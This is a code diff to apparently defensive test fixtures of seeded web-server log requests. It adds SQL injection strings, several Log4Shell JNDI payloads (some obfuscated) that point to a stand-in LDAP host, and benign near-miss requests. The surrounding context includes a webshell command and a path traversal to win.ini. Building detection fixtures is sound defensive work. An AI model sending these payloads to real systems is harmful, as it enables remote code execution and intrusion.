@@ -16,6 +16,7 @@ __all__ = [
     "IIS_ATTACKS",
     "IIS_PAGES",
     "NGINX_ATTACKS",
+    "NGINX_NEAR_MISSES",
     "NGINX_PAGES",
     "PROVINCES",
     "REFERRERS",
@@ -91,9 +92,12 @@ _SQLMAP: Final = "sqlmap/1.8.11#stable (https://sqlmap.org)"
 _NIKTO: Final = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{test})"
 _CURL: Final = "curl/8.5.0"
 _BROWSER: Final = BROWSERS[3]
+_JNDI: Final = "${jndi:ldap://203.0.113.47:1389/Exploit}"
 
-WebRequest = tuple[str, str, str, str, int, str]
-"""(attack kind, client, method, target, status, user agent) of one seeded request."""
+WebRequest = tuple[str | None, str, str, str, int, str]
+"""(attack kind, client, method, target, status, user agent) of one seeded request.
+
+The kind is None for a near miss: a benign request placed beside the attacks."""
 
 _NIKTO_PROBES: Final = (
     ("/admin/", "000016"), ("/phpmyadmin/", "000127"), ("/.git/config", "000734"),
@@ -127,6 +131,26 @@ NGINX_ATTACKS: Final[tuple[tuple[float, WebRequest], ...]] = (
                         "python-requests/2.32.3")) for i in range(25)),
     (2450.5, ("login_brute_force_success", BRUTE_FORCER, "POST", "/login", 302,
               "python-requests/2.32.3")),
+    # Added after the first bundled release: kept last, so earlier lines stay as they were.
+    (2700.0, ("sql_injection_numeric", WEB_ATTACKER, "GET", "/news?id=5%20OR%201=1--", 200,
+              _BROWSER)),
+    (2702.5, ("sql_injection_numeric", WEB_ATTACKER, "GET",
+              "/results?exam=bacii-2026&candidate=120345+AND+1=1", 200, _BROWSER)),
+    (3000.0, ("log4shell", WEB_ATTACKER, "GET", "/", 200, _JNDI)),
+    (3004.0, ("log4shell", WEB_ATTACKER, "GET",
+              "/results/search?name=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F203.0.113.47"
+              "%3A1389%2Fa%7D&province=kandal", 200, _BROWSER)),
+    (3008.5, ("log4shell", WEB_ATTACKER, "GET", "/login", 200,
+              "${${::-j}${::-n}di:ldap://203.0.113.47:1389/b}")),
+)  # fmt: skip
+# Benign requests that resemble the attacks above (a number alone, OR in a search, a shell
+# variable in a help page); no rule may fire on them. Added with the attacks.
+NGINX_NEAR_MISSES: Final[tuple[tuple[float, WebRequest], ...]] = (
+    (2705.0, (None, "36.37.140.12", "GET", "/news?id=5", 200, BROWSERS[0])),
+    (2706.0, (None, "36.37.140.12", "GET", "/results/search?name=sok+or+sao&province=kandal",
+              200, BROWSERS[0])),
+    (3010.0, (None, "36.37.140.12", "GET", "/help/shell-variables?example=%24%7BHOME%7D", 200,
+              BROWSERS[5])),
 )  # fmt: skip
 
 _SHELL: Final = "/eServices/uploads/cmdasp.aspx"
@@ -138,4 +162,5 @@ IIS_ATTACKS: Final[tuple[tuple[float, tuple[str, str, str, str, str, int, str]],
     (131.0, ("webshell_access", WEB_ATTACKER, "GET", _SHELL, "cmd=net+user", 200, _CURL)),
     (2100.0, ("path_traversal", WEB_ATTACKER, "GET", "/eServices/Download/File",
               "name=..%5c..%5c..%5cwindows%5cwin.ini", 500, _BROWSER)),
+    (2200.0, ("log4shell", WEB_ATTACKER, "GET", "/eServices/", "-", 200, _JNDI)),
 )  # fmt: skip
